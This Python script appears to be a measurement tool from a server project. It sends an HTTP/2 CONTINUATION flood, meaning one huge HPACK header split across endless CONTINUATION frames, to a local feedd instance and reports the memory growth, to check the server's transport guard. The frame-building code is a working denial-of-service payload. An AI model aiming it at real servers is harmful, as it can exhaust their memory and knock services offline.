"""continuation_flood.py PORT PID MIB: one HTTP/2 connection to feedd at
127.0.0.1:PORT that never acknowledges the server's SETTINGS and sends a
HEADERS frame (no END_HEADERS) opening one header of MIB MiB, then that many
MiB of CONTINUATION frames; prints feedd's resident memory (process PID)
before, after and once the connection is closed. A measurement of gRPC
core's HPACK buffering and of feedd's transport guard, which cuts such a
connection (run feedd with --transport-memory 0 to see gRPC 1.51 without
it), not a pass/fail test: tests/server/test_hostile.c is that. See the
README's reliability and security section for what it showed."""

import socket
import struct
import sys
import time


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) // 1024
    return -1


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def main():
    port, pid, mib = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
    total = mib << 20
    s = socket.create_connection(("127.0.0.1", port))
    s.settimeout(30)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    before = rss_mib(pid)
    # A literal header, new name "x", whose value is `total` bytes long.
    s.sendall(frame(1, 0, 1, b"\x00" + hpack_int(1, 7, 0) + b"x" + hpack_int(total, 7, 0)))
    chunk, sent = b"a" * 16384, 0
    try:
        while sent < total:
            s.sendall(frame(9, 0, 1, chunk))
            sent += len(chunk)
    except OSError as e:
        print(f"connection ended by the server after {sent >> 20} MiB: {e}")
    time.sleep(1)
    print(f"sent {sent >> 20} MiB of CONTINUATION: feedd RSS {before} -> {rss_mib(pid)} MiB")
    s.close()
    time.sleep(1)
    print(f"after the connection closed: {rss_mib(pid)} MiB")


if __name__ == "__main__":
    main()
